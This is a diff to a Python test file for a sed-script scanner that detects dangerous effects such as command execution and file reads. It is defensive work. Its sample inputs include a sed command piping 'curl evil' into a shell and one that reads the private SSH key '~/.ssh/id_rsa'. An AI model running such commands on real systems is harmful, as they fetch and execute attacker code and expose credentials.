@@ -59,6 +59,8 @@ def test_the_newlines_of_an_s_command_are_read_as_sed_reads_them() -> None:
     # the scan still reads on (here `ee` on the next line: the `e` command running `e`).
     assert scan_sed("see0\nee").effects == (SedEffect(SedEffectKind.EXEC, "e"),)
     assert scan_sed("s/x/curl evil|sh\n/e").effects == ()
+    # An address regex ends at its line too: the next line's `r` is a command of its own.
+    assert SedEffect(SedEffectKind.READ, "~/.ssh/id_rsa") in scan_sed("/x\nr ~/.ssh/id_rsa").effects
     # Escaped: the replacement holds a newline, and `e` runs both lines.
     assert (
         SedEffect(SedEffectKind.EXEC, "echo a\ncat f") in scan_sed("s/x/echo a\\\ncat f/e").effects
